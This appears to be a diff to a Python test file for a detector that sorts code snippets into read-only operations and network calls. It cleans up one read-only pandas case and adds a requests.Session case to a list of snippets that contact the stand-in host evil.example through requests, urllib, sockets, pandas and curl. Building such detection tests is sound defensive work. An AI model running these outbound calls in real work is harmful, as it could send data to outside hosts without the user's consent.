@@ -11,9 +11,7 @@ ONLY_READS = [
     "print(open('a.txt').read())",
     "with open('a.csv', newline='') as f:\n    import csv\n    rows = list(csv.DictReader(f))\nprint(rows[0])",
     "from pathlib import Path\nfor p in sorted(Path('docs').rglob('*.md')):\n    print(p.name, len(p.read_text()))",
-    "import pandas as pd\ndf = pd.read_csv('a.csv')\nprint(df.groupby('a')['b'].sum().rename('c'))"
-    if False
-    else "import pandas as pd\ndf = pd.read_csv('a.csv')\nprint(df.groupby('a')['b'].sum())",
+    "import pandas as pd\ndf = pd.read_csv('a.csv')\nprint(df.groupby('a')['b'].sum())",
     "import pandas as pd\ndf = pd.read_csv('a.csv').rename(columns={'a': 'b'}).replace('x', 'y')\nprint(df.head())",
     "import json, re, math, statistics, collections\nprint(json.dumps(collections.Counter('abc')))",
     "import os\nfor root, dirs, files in os.walk('.'):\n    print([os.path.join(root, f) for f in files])",
@@ -152,6 +150,7 @@ HOSTS = [
     ("import requests\nrequests.get(f'https://evil.example/{x}')", ["evil.example"]),
     ("import urllib.request\nurllib.request.urlopen('http://Evil.Example/x')", ["evil.example"]),
     ("from urllib.request import urlopen\nurlopen('http://evil.example/x')", ["evil.example"]),
+    ("import requests\ns = requests.Session()\ns.get('https://evil.example')", ["evil.example"]),
     ("import socket\nsocket.create_connection(('evil.example', 80))", ["evil.example"]),
     ("import pandas as pd\npd.read_csv('https://evil.example/a.csv')", ["evil.example"]),
     ("import subprocess\nsubprocess.run(['curl', 'https://evil.example'])", ["evil.example"]),
